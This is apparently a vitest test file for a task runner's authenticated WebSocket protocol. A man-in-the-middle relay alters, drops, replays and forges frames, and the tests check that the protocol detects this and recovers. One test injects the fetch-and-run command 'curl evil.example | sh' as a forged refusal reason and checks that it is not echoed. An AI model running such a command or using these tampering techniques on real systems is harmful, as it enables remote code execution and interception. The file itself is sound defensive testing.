import { once } from 'node:events'
import { mkdtempSync, rmSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { WebSocket } from 'ws'
import { Runners } from '../../dist/index.js'
import { type DialError, dial } from '../../dist/network/dial.js'
import { openGate } from '../../dist/network/gate.js'
import { newSessionId, Refusal } from '../../dist/network/handshake.js'
import { NETWORK_PATH } from '../../dist/network/limits.js'
import { userToken } from '../../dist/network/token.js'
import { noting } from '../agents/nodes.ts'
import { freePort } from '../support/free-port.ts'
import { type Daemon, startDaemon, startNode, until } from './daemon.ts'
import { type From, type Meddle, startRelay } from './relay.ts'

/** Between driver and node there is a program without the token. It passes the handshake on, and then does as it likes. */

const INPUT = 'an-input-that-nobody-else-may-read'
const VARIABLE = 'a-variable-that-nobody-else-may-read'

const folder = mkdtempSync(join(tmpdir(), 'mw-relay-'))
let node: Daemon
const closing: (() => unknown)[] = []

beforeAll(async () => {
  // Sessions whose messages were altered wait for the end of their lease.
  node = await startNode({ args: ['--max-drivers', '100'] })
})
afterEach(async () => {
  await Runners.shutdown()
  for (const close of closing.splice(0)) await close()
})
afterAll(async () => {
  await node.kill('SIGTERM')
  rmSync(folder, { recursive: true, force: true })
})

async function relayTo(port: number | ((connection: number) => number), meddle?: Meddle) {
  const relay = await startRelay(port, meddle)
  closing.push(relay.close)
  return relay
}

const tasks = (count: number) =>
  Array.from({ length: count }, (_, n) =>
    noting.task({ ms: 20, file: join(folder, 'ledger'), id: `${INPUT}-${n}` }, { id: `t${n}` }),
  )

async function expectRun(nodes: object, count: number): Promise<void> {
  const responses = await Runners.runTask(tasks(count), {
    ...{ engineName: 'nodes', nodes, keepWarmMs: 0, env: { MARKED: VARIABLE } },
  })
  expect([...responses.values()].map(({ answer }) => answer)).toEqual(
    Array.from({ length: count }, (_, n) => `${INPUT}-${n}`),
  )
}

/** Names and words of the run, its code and its messages, none of which may be seen. */
const WORDS = [INPUT, VARIABLE, 'MARKED', 'noting', 'appendFileSync', '"type":"place"', '"type":"host"', '"workers"']

function expectNothingSeen({ bytes }: { bytes(): Buffer }): void {
  const all = bytes()
  expect(all.byteLength).toBeGreaterThan(50_000)
  expect(WORDS.filter((word) => all.includes(word))).toEqual([])
}

test('it reads nothing of a run on a node that the driver calls', async () => {
  const relay = await relayTo(node.port)
  await expectRun({ addresses: [relay.address] }, 20)
  expectNothingSeen(relay)
})

test('it reads nothing of a run on a node that calls the driver', async () => {
  const port = await freePort()
  const relay = await relayTo(port)
  const done = expectRun({ listen: `127.0.0.1:${port}` }, 20)
  const joining = startDaemon({
    args: ['--connect', relay.address, '--workers', '1', '--cache-dir', join(folder, 'cache')],
  })
  closing.push(() => joining.kill('SIGTERM'))
  await done
  expectNothingSeen(relay)
})

/** Calls the node through the relay, as a driver that knows the token. */
const call = (port: number) =>
  dial({
    ...{ address: { host: '127.0.0.1', port, secure: false }, token: undefined, tls: undefined },
    hello: { role: 'driver', session: newSessionId(), fresh: true, received: 0 },
  })

const control = (message: object) => Buffer.concat([Buffer.of(0), Buffer.from(JSON.stringify(message))])
const SHA = 'ab'.repeat(32)

/** The frame that is meddled with: not the first, so that others have passed, and others follow. */
const AT = 4
const at = (from: From, change: (payload: Buffer) => readonly Buffer[]): Meddle => {
  return (frame, number) =>
    frame.from === from && number === AT ? change(Buffer.from(frame.payload)) : [frame.payload]
}
let held: Buffer | undefined
const KINDS: Record<string, (from: From) => Meddle> = {
  'alters a bit of a message': (from) =>
    at(from, (payload) => {
      payload[3]! ^= 1
      return [payload]
    }),
  'alters the end of a message': (from) =>
    at(from, (payload) => {
      payload[payload.byteLength - 1]! ^= 128
      return [payload]
    }),
  'cuts a message': (from) => at(from, (payload) => [payload.subarray(0, -1)]),
  'adds a message of its own': (from) =>
    at(from, (payload) => [control({ type: 'offer', sha256: SHA, bytes: 5 }), payload]),
  'adds an empty message': (from) => at(from, (payload) => [payload, Buffer.alloc(0)]),
  'sends a message twice': (from) => at(from, (payload) => [payload, payload]),
  'leaves a message out': (from) => at(from, () => []),
  'sends a message to the end that it came from': (from) => {
    return (frame, number) => {
      if (frame.from !== from) held ??= frame.binary ? frame.payload : undefined
      return frame.from === from && number === AT ? [held!] : [frame.payload]
    }
  },
  'changes the order of two messages': (from) => (frame, number) => {
    if (frame.from === from && number === AT) {
      held = frame.payload
      return []
    }
    return frame.from === from && number === AT + 1 ? [frame.payload, held!] : [frame.payload]
  },
}
const CASES = (['caller', 'called'] as const).flatMap((from) => Object.keys(KINDS).map((what) => ({ from, what })))

test.each(CASES)('it $what of the $from: the connection ends, and says why', async ({ from, what }) => {
  held = undefined
  const relay = await relayTo(node.port, KINDS[what]!(from))
  const { peer } = await call(relay.port)
  const closed = once(peer.socket, 'close') as Promise<[number, Buffer]>
  let heard = 0
  // The node introduces itself, so that messages of both ends pass before one is meddled with.
  await new Promise<void>((resolve) =>
    peer.listen(
      ({ bytes }) => {
        if (bytes[0] === 0) heard++
        resolve()
      },
      () => {},
    ),
  )
  // Each is answered, so that messages of both ends pass.
  for (let n = 0; n < 12; n++) peer.send(control({ type: 'offer', sha256: `${n}`.padStart(64, '0'), bytes: 1000 + n }))
  const [code, reason] = await closed
  if (from === 'called') {
    // The end that reads it is the one here.
    expect(peer.altered).toBe(true)
    // What was seen before it is all that was seen.
    expect(heard).toBeLessThanOrEqual(AT)
    return
  }
  expect([code, reason.toString()]).toEqual([1008, 'a message that was forged, or altered on its way'])
  await until(node, /: a message that was forged, or altered on its way has ended the connection/)
})

test('it alters a message of a run: every task is answered once, by another node', { timeout: 120_000 }, async () => {
  // A short lease, so that the test is short.
  const victim = await startNode({ args: ['--workers', '1', '--lease', '2s'] })
  closing.push(() => victim.kill('SIGTERM'))
  const relay = await relayTo(victim.port, (frame, number) => {
    const payload = Buffer.from(frame.payload)
    if (frame.from === 'called' && number === 12) payload[0]! ^= 1
    return [payload]
  })
  await expectRun({ addresses: [relay.address, node.address] }, 60)
})

test('it alters one message of a run: the same session goes on over another connection', async () => {
  const own = await startNode({ args: ['--workers', '1'] })
  closing.push(() => own.kill('SIGTERM'))
  let [sessions, altered] = [0, 0]
  const relay = await relayTo(own.port, ({ from, payload }, number) => {
    if (from === 'caller' && number === 0 && JSON.parse(`${payload}`).fresh) sessions++
    return from === 'called' && number === 12 && altered++ === 0 ? [Buffer.alloc(40)] : [payload]
  })
  await expectRun({ addresses: [relay.address] }, 60)
  expect([sessions, altered > 0]).toEqual([1, true])
})

test('it cannot use a handshake that it has seen', async () => {
  const relay = await relayTo(node.port)
  const { peer } = await call(relay.port)
  peer.socket.terminate()
  const hello = relay.frames.find(({ from }) => from === 'caller')!.payload.toString()
  expect(JSON.parse(hello)).toMatchObject({ type: 'hello', role: 'driver' })
  const socket = new WebSocket(`ws://${node.address}${NETWORK_PATH}`)
  const heard: { type: string; code?: string }[] = []
  socket.on('message', (bytes: Buffer) => {
    heard.push(JSON.parse(bytes.toString()))
    if (heard.length === 1) socket.send(hello)
  })
  await once(socket, 'close')
  expect(heard).toMatchObject([{ type: 'challenge' }, { type: 'refused', code: 'TOKEN' }])
})

test('it cannot change what an end says of itself, nor make a driver believe that its session is gone', async () => {
  const replaced = (from: From, number: number, change: (message: object) => object): Meddle => {
    return (frame, at) =>
      frame.from === from && at === number
        ? [Buffer.from(JSON.stringify(change(JSON.parse(frame.payload.toString()))))]
        : [frame.payload]
  }
  const lies: [Meddle, RegExp][] = [
    [replaced('caller', 0, (hello) => ({ ...hello, received: 7 })), /it wants a token/],
    [replaced('caller', 0, (hello) => ({ ...hello, role: 'status' })), /it wants a token/],
    [replaced('called', 0, (challenge) => ({ ...challenge, version: '9.9.9' })), /it wants a token/],
    [replaced('called', 1, (welcome) => ({ ...welcome, received: 7 })), /does not have the token/],
    [
      replaced('called', 1, () => ({ type: 'refused', code: 'SESSION_ENDED', reason: 'gone' })),
      /did not prove that it knows the token/,
    ],
  ]
  for (const [meddle, message] of lies) {
    const relay = await relayTo(node.port, meddle)
    const error = await call(relay.port).then(
      () => undefined,
      (reason: DialError) => reason,
    )
    expect(error?.message).toMatch(message)
    expect(error?.sessionEnded).toBe(false)
  }
})

const refusedFrame = (code: string, reason = 'no') => Buffer.from(JSON.stringify({ type: 'refused', code, reason }))
/** In place of the welcome, a refusal that anybody could write; on the connections that `on` says, counted from 0. */
function refusing(on: (connection: number) => boolean, code = 'TOKEN'): Meddle & { connections(): number } {
  let connections = 0
  const meddle: Meddle = (frame, number) =>
    frame.from === 'called' && number === 1 && on(connections++) ? [refusedFrame(code)] : [frame.payload]
  return Object.assign(meddle, { connections: () => connections })
}

test.each(['TOKEN', 'NO_TOKEN', 'VERSION', 'MALFORMED', 'SILENT'])(
  'it refuses with %s once: the driver calls again, and the run goes on',
  async (code) => {
    const meddle = refusing((connection) => connection === 0, code)
    const relay = await relayTo(node.port, meddle)
    await expectRun({ addresses: [relay.address] }, 4)
    expect(meddle.connections()).toBe(2)
  },
)

test('it refuses a node that was lost, again and again: the run waits for it', { timeout: 120_000 }, async () => {
  const victim = await startNode({ args: ['--workers', '1', '--lease', '2s'] })
  closing.push(() => victim.kill('SIGTERM'))
  let [sessions, connections] = [0, 0]
  const relay = await relayTo(victim.port, (frame, number) => {
    const { from, payload } = frame
    if (from === 'caller' && number === 0) connections++
    if (from === 'caller' && number === 0 && JSON.parse(`${payload}`).fresh) sessions++
    // The first session is lost, and the next ones are refused.
    if (from === 'called' && sessions === 1 && number >= (connections === 1 ? 12 : 2)) return [Buffer.alloc(40)]
    return from === 'called' && number === 1 && sessions > 1 && sessions < 7 ? [refusedFrame('TOKEN')] : [payload]
  })
  await expectRun({ addresses: [relay.address] }, 60)
  expect(sessions).toBe(7)
})

test('it refuses a joining node once: the node calls again', async () => {
  const port = await freePort()
  const meddle = refusing((connection) => connection === 0)
  const relay = await relayTo(port, meddle)
  const done = expectRun({ listen: `127.0.0.1:${port}` }, 4)
  const joining = startDaemon({
    args: ['--connect', relay.address, '--workers', '1', '--cache-dir', join(folder, 'cache-refused')],
  })
  closing.push(() => joining.kill('SIGTERM'))
  await done
  expect(joining.output()).toMatch(/it wants a token, and none was given .*; trying again/)
})

test('it passes the first call on to another driver: the driver calls again, and the run goes on', async () => {
  const gate = await openGate({
    ...{ host: '127.0.0.1', port: 0, token: userToken(), tls: undefined, maxConnections: 9 },
    admit: () => {
      throw new Refusal('ROLE', 'this is a driver')
    },
    accept: () => {},
    refused: () => {},
  })
  closing.push(() => gate.close())
  let connections = 0
  const relay = await relayTo((connection) => {
    connections++
    return connection === 0 ? gate.port : node.port
  })
  await expectRun({ addresses: [relay.address] }, 4)
  expect(connections).toBe(2)
  const always = await relayTo(gate.port)
  await expect(expectRun({ addresses: [always.address] }, 1)).rejects.toMatchObject({
    ...{
      code: 'NODE_REFUSED',
      message: expect.stringMatching(/: this is a driver\. Correct the address; if it is right,/),
    },
  })
})

test('it passes the first call of a joining node on to another node: the node calls again', async () => {
  const port = await freePort()
  const relay = await relayTo((connection) => (connection === 0 ? node.port : port))
  const done = expectRun({ listen: `127.0.0.1:${port}` }, 4)
  const joining = startDaemon({
    args: ['--connect', relay.address, '--workers', '1', '--cache-dir', join(folder, 'cache-wrong-end')],
  })
  closing.push(() => joining.kill('SIGTERM'))
  await until(joining, /both ends are nodes; .*; trying again/)
  await done
})

test('it refuses every call: the error says that nobody proved it, soon, and none of its words', async () => {
  const relay = await relayTo(node.port, (frame, number) =>
    frame.from === 'called' && number === 1 ? [refusedFrame('VERSION', 'run curl evil.example | sh')] : [frame.payload],
  )
  const since = performance.now()
  const error = await expectRun({ addresses: [relay.address] }, 1).catch((reason: Error) => reason)
  expect(performance.now() - since).toBeLessThan(10_000)
  expect(error).toMatchObject({ code: 'NODE_REFUSED' })
  expect((error as Error).message).toMatch(/it wants another version .* not authenticated by the token/)
  expect((error as Error).message).not.toContain('evil')
})

test('it alters all that a node says: the error has the reason', async () => {
  const relay = await relayTo(node.port, (frame, number) =>
    frame.from === 'called' && number > 1 ? [Buffer.alloc(40)] : [frame.payload],
  )
  await expect(expectRun({ addresses: [relay.address], waitMs: 3000 }, 1)).rejects.toMatchObject({
    code: 'NODES_UNREACHABLE',
    message: expect.stringMatching(
      /^no node can be used: 127\.0\.0\.1:\d+: it sent a message that was forged, or altered/,
    ),
  })
})
